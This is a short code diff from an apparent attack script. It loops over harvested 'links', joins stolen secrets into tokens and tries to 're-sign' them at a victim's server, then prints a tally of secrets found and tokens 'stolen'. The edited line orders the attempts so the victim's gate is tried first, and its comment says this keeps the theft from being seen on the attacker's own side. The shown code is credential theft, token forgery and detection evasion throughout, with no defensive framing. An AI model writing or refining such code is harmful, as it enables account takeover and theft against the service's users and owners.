@@ -119,7 +119,7 @@ for kind, content in loot():
 stolen = 0
 for place in links:
     its_server, its_match, its_secret = (part.decode() for part in place)
-    for at in {its_server, server}:
+    for at in (its_server, server):  # the gate of the victim first: at the own one the theft is seen
         token = join(at, its_match, its_secret)
         stolen += bool(token and resign(at, its_match, token))
 print(json.dumps({"secrets": sorted(found), "links": len(links), "stolen": stolen}), flush=True)
